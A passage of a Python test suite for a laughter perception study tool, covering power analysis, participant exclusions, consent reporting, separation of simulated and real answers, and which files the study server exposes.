            "ci_low and ci_high in power.csv)") in r.stderr   # Wilson(2, 3), as wilson(round(0.8 * 3), 3)
    assert (tmp_path / "pw" / "power.csv").read_text().startswith("n,detected,sims,power,ci_low,ci_high\n4,")


def test_power_counts_a_negative_effect_in_its_own_direction(study):
    """A review: ``--effect -2`` counted only significant results with a above b, so its power was about 0 where
    +2's was 0.85.  By hand: a rated 2 and b 6 (every other condition 4, a little noise) is a clear a - b = -4;
    it is detected for a planted -4 and not for +4, and the data mirrored on the scale (v -> 8 - v) is detected
    for +4 and not for -4."""
    import pandas as pd

    from laughlab.study import power as W

    conds = ["smile_only", "face_breathing", "laugh_energy", "laugh_concat"]
    level = {"laugh_energy": 2.0, "smile_only": 6.0}
    rows = [(p, c, f"{c}-{i}", level.get(c, 4.0) + (0.5 if (p + k) % 2 else -0.5))
            for p in range(1, 7) for k, (c, i) in enumerate((c, i) for c in conds for i in "xy")]
    df = pd.DataFrame(rows, columns=["participant", "condition", "stimulus", "value"])
    mirror = df.assign(value=8 - df["value"])
    args = (conds, "laugh_energy", "smile_only", 0.05)
    assert W.detected(df, *args, -4.0) and not W.detected(df, *args, 4.0)
    assert W.detected(mirror, *args, 4.0) and not W.detected(mirror, *args, -4.0)


@pytest.mark.parametrize("effect, why", [
    ("0", "--effect must be a non-zero, finite number of scale points (got 0)"),
    ("3.5", "--effect 3.5 is impossible on this 1..7 scale: from the base rating 4 it must lie between -3 and +3"),
    ("-100", "--effect -100 is impossible on this 1..7 scale"),
    ("--", "--effect needs a number of scale points, e.g. --effect 0.5"),   # argparse handed on [] (a traceback)
    ("nan", "must be a finite number"),
])
def test_power_refuses_an_effect_the_scale_cannot_hold_in_one_line(study, tmp_path, effect, why):
    """A review: --effect 100 or 0 ran and reported a power for an effect that was not the one simulated (ratings
    are cut at the scale's ends), and --effect=-- gave a traceback."""
    out = fuzz.run_cli(["study", "power", str(study), "--contrast", "laugh_energy:smile_only", f"--effect={effect}",
                        "--sims", "1", "--participants", "2", "--out", str(tmp_path / "pw")])
    assert out.code == 2 and why in out.stderr and out.stderr.count("\n") == 1, out.stderr
    assert "Traceback" not in out.stderr and not (tmp_path / "pw").exists()


@pytest.mark.slow
def test_power_by_simulation_grows_with_participants(study):
    """With 2 stimuli per condition and the default variances (participant SD 0.8, stimulus 0.3, residual
    1.2), a 2.5-point effect is found almost always with 12 participants and less often with 4; no effect is
    'found' about as often as alpha (Holm over the 6 pairs keeps it below).  ~40 s: 42 mixed-model fits."""
    from laughlab.study import power as W

    d = design_of(study)
    first = W.power(d, ("laugh_energy", "smile_only"), 2.5, [4, 12], sims=14, seed=5)
    assert [r["n"] for r in first] == [4, 12]
    assert first[1]["power"] >= 0.8 and first[1]["power"] > first[0]["power"]
    assert all(r["ci_low"] <= r["power"] <= r["ci_high"] for r in first)
    import numpy as np
    from laughlab_experiments.stimuli import participant_trials

    rng = np.random.default_rng(5)   # no effect (power refuses --effect 0): 'found' about as often as alpha
    items = sorted({s["audio_id"] for s in d["stimuli"].values()})
    trials = participant_trials(d["conditions"], items, 12, d.get("design") or "all")
    found = sum(W.detected(W.simulate(trials, {}, W.DEFAULT_VAR, 4.0, rng, (1, 7)), d["conditions"], "laugh_energy",
                           "smile_only", 0.05) for _ in range(14))
    assert found <= 3


def test_the_server_sends_only_what_study_build_wrote(study, tmp_path):
    """``study analyze`` writes its report (every answer, in ``tidy.csv``) beside the database, inside the study
    folder, by default: a review found ``simulated-report/tidy.csv`` served to anyone.  Only the page's own files
    go out; the databases, their logs, reports and a user's notes stay."""
    from laughlab.study.server import files_of
    from laughlab.viewer.server import http_server

    copy = tmp_path / "study"
    shutil.copytree(study, copy)
    built = set(files_of(copy))
    assert {"index.html", "study.js", "study.css", "design.js"} <= built and "design.json" not in built
    assert any(f.startswith("stimuli/") for f in built) and any(f.startswith("audio_check/") for f in built)
    assert any(f.startswith("vendor/") for f in built)
    extra = ["responses-report/tidy.csv", "simulated-report/README.md", "power/power.csv", "notes.txt",
             "responses.sqlite", "responses.sqlite.rejected.log", "stimuli/.DS_Store", "mine/page.html"]
    for rel in extra:
        (copy / rel).parent.mkdir(parents=True, exist_ok=True)
        (copy / rel).write_text("participant,value\n1,7\n")
    assert set(files_of(copy)) == built
    httpd = http_server(files_of(copy), 0)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}/"
    try:
        with urllib.request.urlopen(base + "design.js", timeout=10) as r:
            assert r.status == 200
        for rel in extra:
            with pytest.raises(urllib.error.HTTPError) as e:
                urllib.request.urlopen(base + rel, timeout=10)
            assert e.value.code == 404, rel
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.mark.browser
def test_on_a_static_host_the_page_keeps_the_answers_and_its_csv_is_analysed(study, tmp_path):
    """Pavlovia or any static host: no /api, so the page keeps the answers in the browser and offers
    them as CSV; ``study analyze FOLDER --design STUDY`` reads those files."""
    from laughlab.study import simulate as S
    from laughlab.study.server import files_of
    from laughlab.viewer.server import http_server

    d = design_of(study)
    httpd = http_server(files_of(study), 0)  # plain files: POSTs get 501, as on a static host
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        given = S.run_sync(f"http://127.0.0.1:{httpd.server_address[1]}", d, [6, 7],
                           S.planted(d, {"laugh_energy": PLANTED}, seed=4))
    finally:
        httpd.shutdown()
        httpd.server_close()
    folder = tmp_path / "downloads"
    folder.mkdir()
    for p, g in given.items():
        assert g.saved is False  # the end page says the answers are not on a server: download them
        (folder / f"participant_{p:03d}_answers.csv").write_text(g.csv)
        rows = list(csv.DictReader(g.csv.splitlines()))
        ratings = {(int(r["trial"]), r["question"]): float(r["value"]) for r in rows if r["kind"] != "audio_check"}
        assert ratings == g.answers
    out = fuzz.run_cli(["study", "analyze", str(folder), "--design", str(study), "--out", str(tmp_path / "rep")])
    assert out.code == 0, out.stderr
    from laughlab.study.analyze import REPORT_FILES

    assert out.stdout.startswith(f"laughlab: report written to {tmp_path / 'rep'}/: README.md (read it first), ")
    assert all(name in out.stdout for name in REPORT_FILES)       # every file it wrote (it named 3 of the 10)
    from laughlab.study.reportdir import STAMP   # (the record of what it wrote, for a second analyze)

    assert {f.name for f in (tmp_path / "rep").iterdir()} == REPORT_FILES | {STAMP}
    with open(tmp_path / "rep" / "tidy.csv") as f:
        assert {r["participant"] for r in csv.DictReader(f)} == {"6", "7"}
    # the report's first line is the command that made it, every option in it (a review: --design and --out were
    # left out, and that command gave another report); without a design the report says what that changes
    from laughlab.study.analyze import NO_DESIGN

    text = (tmp_path / "rep" / "README.md").read_text()
    assert text.splitlines()[2] == f"`python -m laughlab study analyze {folder} --design {study} --out {tmp_path / 'rep'}`"
    assert NO_DESIGN not in text
    out = fuzz.run_cli(["study", "analyze", str(folder), "--out", str(tmp_path / "rep2")])
    assert out.code == 0, out.stderr
    text = (tmp_path / "rep2" / "README.md").read_text()
    assert text.splitlines()[2:5] == [f"`python -m laughlab study analyze {folder} --out {tmp_path / 'rep2'}`", "",
                                      NO_DESIGN]


def test_a_participant_who_left_part_way_is_excluded_as_incomplete_unless_kept():
    """A study researcher's review: a participant whose answers stop after 2 of 16 trials, before either attention
    item, was 'included' with no word; missing attention items did not count as failed ones."""
    import pandas as pd

    from laughlab.study.exclusions import exclusions, expected_counts

    def rows(p, trials, attention):
        out = [{"participant": p, "kind": "audio_check", "value": 1.0, "expected": None, "text": "hat"}]
        out += [{"participant": p, "kind": "rating", "value": float(1 + (t + q) % 7), "expected": None, "text": ""}
                for t in range(trials) for q in range(2)]
        return out + [{"participant": p, "kind": "attention", "value": 2.0, "expected": 2.0, "text": ""}] * attention

    df = pd.DataFrame(rows(1, 16, 2) + rows(2, 2, 0) + rows(3, 16, 1))
    design = {"questions": [{"id": "a"}, {"id": "b"}],
              "participants": {str(p): {"trials": [{"attention": t in (5, 11)} for t in range(16)]} for p in (1, 2, 3)}}
    want = expected_counts(design, df)
    assert want == {1: (32, 2), 2: (32, 2), 3: (32, 2)}
    rules = {"audio_check": True, "attention_max_fail": 0, "straightline": True, "complete": True}
    assert exclusions(df, rules, None, want) == {2: ["incomplete: 4 of 32 ratings, 0 of 2 attention items"],
                                                 3: ["incomplete: 32 of 32 ratings, 1 of 2 attention items"]}
    assert exclusions(df, {**rules, "complete": False}, None, want) == {}
    # without a design: the most any participant gave
    assert expected_counts(None, df) == {1: (32, 2), 2: (32, 2), 3: (32, 2)}


def test_the_reasons_of_the_exclusions_are_counted_once_each():
    """A review: with every participant excluded the error listed one reason per participant, cut mid-word."""
    from laughlab.study.analyze import reason_counts

    excluded = {p: ["no audio check stored"] for p in range(12)}
    excluded[12] = ["audio check failed (typed 'nope')", "failed 2 of 2 attention items"]
    excluded[13] = ["audio check failed (typed 'x')", "failed 1 of 2 attention items"]
    excluded[14] = ["straight-lining: all 12 ratings were 3"]
    excluded[15] = ["straight-lining: all 12 ratings were 5"]
    assert reason_counts(excluded) == ("no audio check stored: 12; audio check failed: 2; "
                                       "failed 1 or 2 of 2 attention items: 2; straight-lining: all 12 ratings were "
                                       "3 or 5: 2")
    # one participant: the reason as it is (a review read "all N ratings were N: 1" as placeholders left unfilled)
    assert reason_counts({3: ["straight-lining: all 16 ratings were 5"]}) == "straight-lining: all 16 ratings were 5: 1"
    many = {p: [f"straight-lining: all 12 ratings were {p}"] for p in range(1, 8)}
    assert reason_counts(many) == "straight-lining: all 12 ratings were 1-7: 7"


def test_exclusions_name_each_participant_and_the_reason(study, tmp_path):
    """Answers as the page writes them (one CSV per participant): two good participants, one who never typed
    the word, one who failed both attention items, one who gave the same rating everywhere; the report
    keeps the first two and lists the others with their reasons, computed from the rows by hand."""
    d = design_of(study)
    lo, hi = 1, d["points"]
    folder = tmp_path / "answers"
    folder.mkdir()
    cols = ["participant", "order_row", "trial", "stimulus", "condition", "audio_id", "kind", "question", "value",
            "text", "expected"]
    behaviour = {1: "good", 5: "good", 2: "deaf", 3: "careless", 4: "straight"}
    for p, how in behaviour.items():
        entry = d["participants"][str(p)]
        word = d["audio_check"]["files"][entry["audio_check"]]["answer"]
        rows = [[p, entry["order_row"], 0, "", "", "", "audio_check", "audio_check", 0 if how == "deaf" else 1,
                 "nope|nah|no" if how == "deaf" else word, ""]]
        for t in entry["trials"]:
            for k, q in enumerate(d["questions"]):
                v = 4 if how == "straight" else 1 + (t["trial"] + k) % hi
                rows.append([p, entry["order_row"], t["trial"], t["stimulus"], t["condition"], t["audio_id"],
                             "rating", q["id"], v, "", ""])
            if t["attention"]:
                want = d["attention"]["value"]
                v = (hi if want != hi else lo) if how == "careless" else want
                rows.append([p, entry["order_row"], t["trial"], t["stimulus"], t["condition"], t["audio_id"],
                             "attention", "attention", v, "", want])
        with open(folder / f"participant_{p:03d}_answers.csv", "w", newline="") as f:
            w = csv.writer(f)
            w.writerow(cols)
            w.writerows(rows)
    out = fuzz.run_cli(["study", "analyze", str(folder), "--design", str(study), "--out", str(tmp_path / "rep")])
    assert out.code == 0, out.stderr
    with open(tmp_path / "rep" / "exclusions.csv") as f:
        found = {int(r["participant"]): r for r in csv.DictReader(f)}
    assert set(found) == {2, 3, 4}
    text = {p: " ".join(str(v) for v in r.values()) for p, r in found.items()}
    assert "audio check failed" in text[2] and "nope" in text[2]
    assert "failed 2 of 2 attention items" in text[3]
    assert f"straight-lining: all {2 * len(d['stimuli'])} ratings were 4" in text[4]
    with open(tmp_path / "rep" / "means.csv") as f:
        assert {r["n_participants"] for r in csv.DictReader(f)} == {"2"}  # only the good ones are in the means
    # again into the same folder: the earlier report is replaced; a folder with the user's own files is refused
    # whole (before, it was deleted with them)
    assert fuzz.run_cli(["study", "analyze", str(folder), "--design", str(study), "--out", str(tmp_path / "rep")]).code == 0
    (tmp_path / "rep" / "notes.txt").write_text("mine")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "README.md").write_text("# My thesis\n")
    for target in (tmp_path / "rep", mine):
        out = fuzz.run_cli(["study", "analyze", str(folder), "--design", str(study), "--out", str(target)])
        assert out.code == 2 and "not a study report" in out.stderr and out.stderr.count("\n") == 1, out.stderr
    assert (tmp_path / "rep" / "notes.txt").read_text() == "mine" and (tmp_path / "rep" / "means.csv").exists()
    assert (mine / "README.md").read_text() == "# My thesis\n" and sorted(p.name for p in mine.iterdir()) == ["README.md"]


def test_the_report_says_who_came_agreed_and_stayed_and_leaves_out_answers_without_consent(study, tmp_path):
    """Through the server: participant 1 answers everything in one page load, 2 in two page loads one after the
    other (came back), 3 in two tabs at once (answers interleaved), 4 declines, 6 consents and leaves; 5's answers
    are in the database without a consent (as a database from before the server refused them). The report's line
    counts them by hand, and 5 is excluded for it."""
    from laughlab.study import db as DB

    d = design_of(study)
    srv = Served(study, tmp_path / "responses.sqlite")

    def trial_post(p, session, t):
        hi = d["points"]
        post = {"participant": p, "session": session, "trial": t["trial"], "stimulus": t["stimulus"],
                "answers": {q["id"]: 1 + (t["trial"] + k + p) % hi for k, q in enumerate(d["questions"])}}
        if t["attention"]:
            post["answers"]["attention"] = d["attention"]["value"]
        return post

    def begin(p, session, consent=True):
        assert srv.post("/api/start", {"participant": p, "session": session, "design": d["id"]})[0] == 200
        if consent:
            assert srv.post("/api/event", {"participant": p, "session": session, "event": "consent"})[0] == 200

    def check(p, session):
        word = d["audio_check"]["files"][d["participants"][str(p)]["audio_check"]]["answer"]
        assert srv.post("/api/check", {"participant": p, "session": session, "attempts": [word]})[0] == 201

    try:
        trials = {p: d["participants"][str(p)]["trials"] for p in range(1, 7)}
        begin(1, "one")
        check(1, "one")
        for t in trials[1]:
            assert srv.post("/api/response", trial_post(1, "one", t))[0] == 201
        assert srv.post("/api/event", {"participant": 1, "session": "one", "event": "finish"})[0] == 200
        begin(2, "two-a")
        check(2, "two-a")
        half = len(trials[2]) // 2
        for t in trials[2][:half]:
            assert srv.post("/api/response", trial_post(2, "two-a", t))[0] == 201
        begin(2, "two-b", consent=False)
        for t in trials[2][half:]:
            assert srv.post("/api/response", trial_post(2, "two-b", t))[0] == 201
        begin(3, "three-a")
        begin(3, "three-b", consent=False)
        check(3, "three-a")
        for i, t in enumerate(trials[3]):
            assert srv.post("/api/response", trial_post(3, "three-a" if i % 2 else "three-b", t))[0] == 201
        begin(4, "four", consent=False)
        assert srv.post("/api/event", {"participant": 4, "session": "four", "event": "decline"})[0] == 200
        begin(6, "six")
    finally:
        srv.close()
    rows = [{"participant": 5, "order_row": 0, "trial": 0, "stimulus": "", "condition": "", "audio_id": "",
             "kind": "audio_check", "question": "audio_check", "value": 1.0, "text": "hat", "expected": None,
             "rt_ms": 0, "received_at": DB.utc_now(), "session": "old"}]
    rows += [{"participant": 5, "order_row": 0, "trial": t["trial"], "stimulus": t["stimulus"],
              "kind": "attention" if q == "attention" else "rating", "question": q, "value": float(v), "text": "",
              "expected": float(v) if q == "attention" else None, "condition": t["condition"],
              "audio_id": t["audio_id"], "session": "old", "received_at": DB.utc_now()}
             for t in trials[5] for q, v in trial_post(5, "old", t)["answers"].items()]
    DB.insert_answers(srv.db, rows)
    out = fuzz.run_cli(["study", "analyze", str(srv.db), "--out", str(tmp_path / "rep")])
    assert out.code == 0, out.stderr
    readme = (tmp_path / "rep" / "README.md").read_text()
    assert ("5 participants opened the page (7 page loads): 4 gave consent, 1 declined (no answer of theirs is "
            "stored), 1 reached the end. 2 answered from more than one page load; 1 of them from two at once, their "
            "answers interleaved in time (two tabs or devices: participant 3).") in readme
    with open(tmp_path / "rep" / "exclusions.csv") as f:
        found = [(int(r["participant"]), r["reason"]) for r in csv.DictReader(f)]
    assert found == [(5, "no consent recorded (answers in the database without it)")]
    report = json.loads((tmp_path / "rep" / "report.json").read_text())
    # this test's posts are a script's, each trial at once after the last: said (they are not excluded for it)
    assert report["participation"] == {"opened": 5, "page_loads": 7, "consented": 4, "declined": 1, "finished": 1,
                                       "came_back": 2, "two_at_once": [3], "too_fast": [1, 2, 3, 5]}
    assert "its video lasts, which the page cannot do (a script?): participants 1, 2, 3, 5." in readme


def test_simulated_answers_never_mix_with_peoples(study, tmp_path):
    """``study simulate`` writes into a database of its own (simulated.sqlite), marked as such: serve refuses
    it and simulate refuses people's; a database from before the mark is told apart by its sessions'
    browsers (all headless Chromium: simulated)."""
    from laughlab.core.errors import LaughlabError
    from laughlab.study import db as DB
    from laughlab.study.cli import _handler
    from laughlab.study.server import server

    d = design_of(study)
    people = DB.open_db(tmp_path / "responses.sqlite", d)
    sim = DB.open_db(tmp_path / "simulated.sqlite", d, "simulated")
    assert DB.participants_kind(people) == "people" and DB.participants_kind(sim) == "simulated"
    with pytest.raises(LaughlabError, match="holds simulated participants' answers"):
        DB.open_db(sim, d, "people")
    with pytest.raises(LaughlabError, match="holds the answers of people.*simulated.sqlite"):
        DB.open_db(people, d, "simulated")
    for kind, name in (("people", "responses.sqlite"), ("simulated", "simulated.sqlite")):  # the defaults
        fresh = not (study / name).exists()
        httpd = server(study, None, 0, quiet=True, participants=kind)
        try:
            assert _handler(httpd).db == study / name
        finally:
            httpd.server_close()
            for f in study.glob(name + "*"):
                if fresh:   # the module's study folder is shared: leave it as it was
                    f.unlink()
    old = tmp_path / "old.sqlite"   # written before the mark: no 'participants' row
    DB.open_db(old, d)
    with sqlite3.connect(old) as con:
        con.execute("DELETE FROM study WHERE key = 'participants'")
    assert DB.participants_kind(old) == "people"   # no sessions yet: people's (serve's default)
    DB.session_event(old, "s1", 1, "start", "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/120.0 Safari/537.36")
    assert DB.participants_kind(old) == "simulated"
    DB.session_event(old, "s2", 2, "start", "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0 Safari/537.36")
    assert DB.participants_kind(old) == "people"
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(people), "--participants", "1"])
    assert out.code == 2 and "holds the answers of people" in out.stderr and out.stderr.count("\n") == 1
    foreign = tmp_path / "foreign.sqlite"   # someone else's SQLite file: refused and left as it was
    with sqlite3.connect(foreign) as con:
        con.execute("CREATE TABLE t (x)")
    con.close()
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(foreign), "--participants", "1"])
    assert out.code == 2 and "a database of something else (tables t)" in out.stderr, out.stderr
    with sqlite3.connect(foreign) as con:
        assert [r[0] for r in con.execute("SELECT name FROM sqlite_master")] == ["t"]
    con.close()
    # a second simulation into a database that holds one would add to it with other plants or seeds: refused
    e = d["participants"]["1"]
    DB.insert_answers(sim, [{"participant": 1, "order_row": e["order_row"], "trial": 0, "stimulus": "", "condition": "",
                             "audio_id": "", "kind": "audio_check", "question": "audio_check", "value": 1.0, "text": "",
                             "received_at": DB.utc_now(), "session": "s"}])
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(sim), "--participants", "2"])
    assert out.code == 2 and "already holds 1 simulated participants' answers" in out.stderr, out.stderr
    (tmp_path / "junk.sqlite").write_text("not a database at all, just text")
    out = fuzz.run_cli(["study", "serve", str(study), "--db", str(tmp_path / "junk.sqlite"), "--port", "0"])
    assert out.code == 2 and "is not a study database" in out.stderr and out.stderr.count("\n") == 1, out.stderr


def test_power_replaces_only_its_own_results(study, tmp_path):
    """``study power --out`` refuses a folder whose power.csv or power.png it did not write, before the
    simulations; its own earlier results are replaced; other files are left alone."""
    args = ["study", "power", str(study), "--contrast", "laugh_energy:smile_only", "--effect", "1",
            "--participants", "2", "--sims", "1", "--out"]
    out = fuzz.run_cli(args + [str(tmp_path / "p")])
    assert out.code == 0, out.stderr
    (tmp_path / "p" / "mine.txt").write_text("mine")
    assert fuzz.run_cli(args + [str(tmp_path / "p")]).code == 0   # its own results: replaced
    assert (tmp_path / "p" / "power.csv").read_text().startswith("n,detected,sims,power,ci_low,ci_high\n")
    assert sorted(p.name for p in (tmp_path / "p").iterdir()) == ["mine.txt", "power.csv", "power.png"]
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "power.csv").write_text("subject,power\n1,0.9\n")
    out = fuzz.run_cli(args + [str(theirs)])
    assert out.code == 2 and "is not an earlier study power's result" in out.stderr, out.stderr
    assert (theirs / "power.csv").read_text() == "subject,power\n1,0.9\n" and not (theirs / "power.png").exists()


def test_every_bundled_preset_loads_with_the_questions_of_its_paper(tmp_path):
    """laughlab.yaml (van Duijn 2014, 6.1: naturalness) and riddle.yaml (Ding et al. 2014, 5.2: the
    agent's stance on five-point scales) load, and a broken questions file is one clear error."""
    from laughlab.core.errors import LaughlabError
    from laughlab.study.design import load_preset, preset_names

    assert preset_names() == ["laughlab", "riddle"]
    ids = {name: [q["id"] for q in load_preset(name)["questions"]] for name in preset_names()}
    assert ids["laughlab"] == ["naturalness", "body_sound_match"]
    assert ids["riddle"][2:] == ["spontaneous", "warm", "amused", "stiff", "bored", "cold"]
    assert load_preset("riddle")["points"] == 5 and load_preset("laughlab")["points"] == 7
    broken = tmp_path / "q.yaml"
    broken.write_text("questions:\n  - {id: a, prompt: Is it? really, labels: [x, y]\n")
    with pytest.raises(LaughlabError, match="q.yaml"):
        load_preset(str(broken))


def test_power_says_what_to_change_when_no_size_reaches_the_target():
    from laughlab.study.power import advice, verdict

    row = lambda n, p: {"n": n, "detected": 0, "sims": 10, "power": p, "ci_low": 0.0, "ci_high": 1.0}  # noqa: E731
    enough = [row(8, 0.4), row(12, 0.81), row(16, 0.9)]
    assert verdict(enough, 0.8) == "12 participants reach 80% power" and advice(enough, 0.8, 1.0) is None
    short = [row(8, 0.2), row(16, 0.55), row(12, 0.4)]
    assert verdict(short, 0.8) == "none of 8, 16, 12 participants reaches 80% power (best 55% with 16)"
    assert advice(short, 0.8, 0.5) == ("to reach 80%: more participants (--participants 32,48,64), more stimuli per "
                                       "condition (more audio items: experiment=stimuli with more recordings in "
                                       "harness.corpus.folder, or harness.corpus.seeds=N of the synthetic laughter), "
                                       "or a larger effect than 0.5")
    # a study built for 24 participants: 32 and more need its stimuli made again (a new-user review)
    assert advice(short, 0.8, 0.5, 24) == ("to reach 80%: more participants (--participants 32,48,64; this study has "
                                           "orders for 24 participants: more need its stimuli made again with "
                                           "harness.participants=N, then study build), more stimuli per condition "
                                           "(more audio items: experiment=stimuli with more recordings in "
                                           "harness.corpus.folder, or harness.corpus.seeds=N of the synthetic "
                                           "laughter), or a larger effect than 0.5")
    assert advice(short, 0.8, 0.5, 64) == advice(short, 0.8, 0.5)   # enough orders: nothing to rebuild


def test_build_overwrite_replaces_only_an_earlier_builds_files(study, tmp_path):
    """``study build --overwrite`` deleted the whole folder: a pilot's database under another name, a report, the
    user's notes.  Now it refuses a folder holding people's answers (any name) or one that is not a study, and
    otherwise replaces only its own files."""
    import shutil

    from laughlab.study import db as DB

    stim = study.with_name("stim")
    out = tmp_path / "s"
    assert fuzz.run_cli(["study", "build", str(stim), "--out", str(out)]).code == 0
    (out / "notes.txt").write_text("mine")
    DB.open_db(out / "simulated.sqlite", design_of(out), "simulated")
    res = fuzz.run_cli(["study", "build", str(stim), "--out", str(out), "--overwrite"])
    assert res.code == 0, res.stderr
    assert (out / "notes.txt").read_text() == "mine" and (out / "simulated.sqlite").exists()
    assert (out / "design.json").exists() and not list(tmp_path.glob(".s*"))
    DB.open_db(out / "pilot.sqlite", design_of(out))   # people's database, under a name of the user's
    # no answer in it yet (the page was served and opened, nobody answered: it blocked the rebuild): rebuilt, kept
    res = fuzz.run_cli(["study", "build", str(stim), "--out", str(out), "--overwrite"])
    assert res.code == 0, res.stderr
    assert DB.participants_kind(out / "pilot.sqlite") == "people"
    with sqlite3.connect(out / "pilot.sqlite") as conn:             # one answer: never replaced
        conn.execute("INSERT INTO answers (participant, order_row, trial, stimulus, condition, audio_id, kind, "
                     "question, value, received_at, session) VALUES (1, 0, 0, 's', 'c', 'a', 'rating', 'q', 4, "
                     "'now', 'x')")
    before = sorted(p.name for p in out.iterdir())
    res = fuzz.run_cli(["study", "build", str(stim), "--out", str(out), "--overwrite"])
    assert res.code == 2 and "holds a study's response database with answers (pilot.sqlite)" in res.stderr, res.stderr
    assert sorted(p.name for p in out.iterdir()) == before
    mine = tmp_path / "mine"
    shutil.copytree(out / "vendor", mine / "vendor")
    (mine / "thesis.tex").write_text("x")
    res = fuzz.run_cli(["study", "build", str(stim), "--out", str(mine), "--overwrite"])
    assert res.code == 2 and "is not a study folder" in res.stderr, res.stderr
    assert (mine / "thesis.tex").exists() and (mine / "vendor").is_dir()


def test_serve_on_ipv6_and_says_where_to_open_it(study, tmp_path):
    """``--host ::1`` was refused as 'not an address'; ``--host ''`` (every network) was announced as 127.0.0.1 only."""
    from laughlab.study.server import server
    from laughlab.viewer.server import shown_url

    httpd = server(study, tmp_path / "r.sqlite", 0, host="::1", quiet=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        assert shown_url(httpd).startswith("http://[::1]:")
        with urllib.request.urlopen(shown_url(httpd) + "/index.html", timeout=10) as r:
            assert r.status == 200 and b"<html" in r.read().lower()
    finally:
        httpd.shutdown()
        httpd.server_close()
    httpd = server(study, tmp_path / "r.sqlite", 0, host="", quiet=True)
    try:
        assert shown_url(httpd).startswith("http://127.0.0.1:")
    finally:
        httpd.server_close()


def _simulate_then_sigint(study, db, to: str, sigint=signal.SIG_DFL) -> tuple[int, str]:
    """``study simulate`` of 3 participants into ``db`` (in a session of its own; its SIGINT set to ``sigint``), a
    SIGINT to ``to`` ("the process" or "its process group") 2 s after the pages opened; its exit status and stderr."""
    import os
    import time

    p = subprocess.Popen([sys.executable, "-m", "laughlab", "study", "simulate", str(study), "--participants", "3",
                          "--db", str(db)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                         start_new_session=True, preexec_fn=lambda: signal.signal(signal.SIGINT, sigint))
    deadline = time.time() + 60
    while not db.exists() and time.time() < deadline:   # the pages are opening
        time.sleep(0.05)
    time.sleep(2.0)
    if to == "the process":
        p.send_signal(signal.SIGINT)
    else:
        os.killpg(p.pid, signal.SIGINT)
    _, err = p.communicate(timeout=60)
    return p.returncode, err


@pytest.mark.browser
@pytest.mark.parametrize("to", ["the process", "its process group"])
def test_ctrl_c_during_simulate_is_one_line(study, tmp_path, to):
    """Found by a new-user review: Ctrl-C while simulated participants worked printed 371 lines of asyncio and
    Playwright tracebacks before laughlab's line. A terminal's Ctrl-C reaches the whole process group, Chromium and
    Playwright's driver too (then a BrokenPipeError from the server's thread was printed, 2026-11-28); the
    simulation's files go with it either way."""
    code, err = _simulate_then_sigint(study, tmp_path / "s.sqlite", to)
    assert code == 130 and err == "laughlab: error: interrupted\n", err[-2000:]
    assert not list(tmp_path.glob("s.sqlite*"))


@pytest.mark.browser
def test_chromium_stopped_under_simulate_is_one_line(study, tmp_path):
    """Found trying Ctrl-C as a user (2026-11-28): started as a shell's background job, the command ignores SIGINT
    but Chromium and Playwright's driver do not, and a Ctrl-C to the group stopped only them: 60 lines of
    TargetClosedError, exit 1. Now one line, exit 2, and the simulation's files removed."""
    code, err = _simulate_then_sigint(study, tmp_path / "s.sqlite", "its process group", sigint=signal.SIG_IGN)
    assert code == 2 and err.startswith("laughlab: error: Chromium stopped while the simulated participants "
                                        "worked (") and err.count("\n") == 1, err[-2000:]
    assert err.endswith("nothing was kept: run the command again\n") and not list(tmp_path.glob("s.sqlite*"))


def test_a_simulation_records_what_it_planted(study, tmp_path):
    """A review: the simulated study's report did not say what was planted, the thing it should recover.  simulate
    stores it in the database's study table; analyze prints it (reports/study_demo shows the line)."""
    from laughlab.study import db as DB
    from laughlab.study import simulate as S

    d = design_of(study)
    db = DB.open_db(tmp_path / "sim.sqlite", d, "simulated")
    assert DB.stored(db, "simulation") is None
    DB.store(db, "simulation", {"effects": {"laugh_energy": 1.0}, "seed": 3, "participants": 4, **S.PLANTED_SPREAD})
    assert DB.stored(db, "simulation") == {"effects": {"laugh_energy": 1.0}, "seed": 3, "participants": 4,
                                           "base": 4.0, "sd_participant": 0.5, "sd_noise": 0.6}
    assert DB.stored_design(db) == d and DB.participants_kind(db) == "simulated"


@settings(max_examples=20, deadline=None)
@given(st.lists(st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF), min_size=1, max_size=12),
                min_size=1, max_size=20))
def test_the_page_hashes_a_word_as_the_build_does(words):
    """The page's check of the typed word (study.js: its normalisation and FNV-1a, run by node) gives the hash
    ``study build`` wrote (``word_check``), whatever the word: accents, capitals, digits and spaces."""
    from laughlab.study.design import word_check

    node = shutil.which("node", path=str(Path(sys.executable).parent)) or shutil.which("node")
    js = (ROOT / "laughlab" / "study" / "page" / "study.js").read_text()
    norm = js[js.index("const norm = "):].split(";", 1)[0] + ";"
    fnv = js[js.index("const fnv = "):js.index("const passed = ")]
    script = f"{norm}\n{fnv}\nconst w = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n" \
             "console.log(JSON.stringify(w.map((x) => fnv(norm(x)))));"
    out = subprocess.run([node, "-e", script], input=json.dumps(words), capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == [word_check(w) for w in words]


def test_an_interrupted_simulation_leaves_no_database_behind(study, tmp_path, monkeypatch):
    """Ctrl-C (or Chromium gone) in ``study simulate``: the database it had started is removed, so the same command
    runs again (a review: the part-done simulated.sqlite then refused it, 'already holds 4 simulated
    participants' answers'); a database that was there before is left as it was."""
    from laughlab.study import db as DB
    from laughlab.study import simulate as S

    def stopped(url, design, participants, plant):   # a post the server refuses (its log), then Ctrl-C
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(urllib.request.Request(f"{url}/answer", data=b"{}", method="POST"))
        raise KeyboardInterrupt

    monkeypatch.setattr(S, "run_sync", stopped)
    db = tmp_path / "sim.sqlite"
    out = fuzz.run_cli(["study", "simulate", str(study), "--db", str(db), "--participants", "1"])
